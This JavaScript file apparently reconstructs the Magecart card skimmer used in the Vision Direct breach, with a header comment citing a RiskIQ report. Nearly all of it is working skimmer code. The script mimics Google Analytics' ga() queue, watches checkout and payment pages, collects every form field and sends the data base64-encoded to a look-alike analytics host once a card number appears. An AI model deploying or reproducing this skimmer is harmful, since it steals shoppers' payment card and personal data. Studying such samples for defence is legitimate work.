// vision-direct, written from RiskIQ's report on Magecart Group 11 and the Vision Direct
// breach (Yonathan Klijnsma, November 2018) and the shop's own notice: pages loaded an
// "analytics.js" from a look-alike of Google Analytics ("g-analytics", .invalid here). This is
// that script: it keeps a working ga() command queue so the page behaves as before, and on
// checkout, payment and account pages it keeps every field the shopper fills in and, once a
// card-shaped number is among them, sends the lot base64-encoded back to the same host,
// dressed up as an analytics "event" hit.
(function (w, d) {
  var queue = (w.ga && w.ga.q) || [];
  w.ga = function () { queue.push(arguments); };
  w.ga.q = queue;
  w.ga.l = +new Date();
  w.ga.loaded = true;
  var gate = "https://www.g-analytics.invalid/collect";
  var words = ["checkout", "onepage", "payment", "billing", "basket", "customer/account"];
  var here = d.location.href.toLowerCase();
  var hit = false;
  for (var k = 0; k < words.length; k++) if (here.indexOf(words[k]) !== -1) hit = true;
  if (!hit) return;
  var store = {};
  function grab(el) {
    var key = el.name || el.id;
    if (!key || el.type === "hidden" || el.type === "submit" || el.type === "button") return;
    if (el.value && el.value.length) store[key] = el.value;
  }
  function scan() {
    var f = d.querySelectorAll("input, select, textarea");
    for (var j = 0; j < f.length; j++) grab(f[j]);
  }
  function hasCard() {
    for (var key in store) {
      var v = String(store[key]).replace(/[\s-]/g, "");
      if (/^\d{13,19}$/.test(v)) return true;
    }
    return false;
  }
  var last = "";
  function send() {
    scan();
    if (!hasCard()) return;
    var body = JSON.stringify({ h: d.location.hostname, p: d.location.pathname, f: store });
    if (body === last) return;
    last = body;
    var img = new Image();
    img.src = gate + "?v=1&tid=UA-48201733-1&cid=" + Math.floor(Math.random() * 1e9) +
      "&t=event&ec=checkout&ea=" + encodeURIComponent(btoa(unescape(encodeURIComponent(body))));
  }
  d.addEventListener("change", function (e) { if (e.target) grab(e.target); }, true);
  d.addEventListener("click", function (e) {
    var b = e.target && e.target.closest ? e.target.closest("button, input[type=submit], a.button") : null;
    if (b) send();
  }, true);
  w.addEventListener("beforeunload", send);
  setInterval(send, 3000);
})(window, document);
